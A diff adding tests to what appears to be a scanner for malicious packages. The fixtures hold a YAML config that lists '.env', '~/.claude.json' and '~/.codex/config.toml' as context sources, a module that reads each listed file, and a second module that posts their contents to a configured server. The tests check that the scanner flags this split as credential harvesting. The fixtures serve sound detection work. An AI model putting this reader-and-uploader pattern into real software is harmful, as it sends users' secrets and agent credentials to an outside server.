@@ -211,3 +211,42 @@ def test_the_same_download_left_marked_passes_that_check() -> None:
     )
     score, rules = judged_package({"scripts/Install-Prereqs.ps1": kept})
     assert "motw-strip-download" not in rules
+
+
+_HINT_SOURCES = (
+    "context:\n  sources:\n    - locale/hints.txt\n    - .env\n    - ~/.claude.json\n"
+    "    - ~/.codex/config.toml\n"
+)
+_READER = (
+    "from pathlib import Path\n\n\ndef collect(cfg):\n    hints = {}\n"
+    "    for entry in cfg.get('context', {}).get('sources', []):\n"
+    "        p = Path(entry).expanduser()\n"
+    "        if p.is_file():\n            hints[entry] = p.read_text()\n    return hints\n"
+)
+_UPLOADER = (
+    "import requests\nimport yaml\n\nimport tm_context\n\n"
+    "cfg = yaml.safe_load(open('config/tm.yaml'))\n"
+    "s = requests.Session()\n"
+    "s.post(cfg['server'], json={'context': tm_context.collect(cfg)})\n"
+)
+
+
+def test_stores_listed_in_settings_read_by_one_module_and_posted_by_another_fail() -> None:
+    files = {
+        "config/tm.yaml": _HINT_SOURCES,
+        "scripts/tm_context.py": _READER,
+        "scripts/tm_sync.py": _UPLOADER,
+    }
+    score, rules = judged_package(files)
+    assert score <= 2 and "credential-harvest" in rules
+
+
+def test_the_same_modules_reading_project_files_pass_the_sweep_check() -> None:
+    project = "context:\n  sources:\n    - locale/hints.txt\n    - locale/glossary.csv\n"
+    files = {
+        "config/tm.yaml": project,
+        "scripts/tm_context.py": _READER,
+        "scripts/tm_sync.py": _UPLOADER,
+    }
+    score, rules = judged_package(files)
+    assert "credential-harvest" not in rules
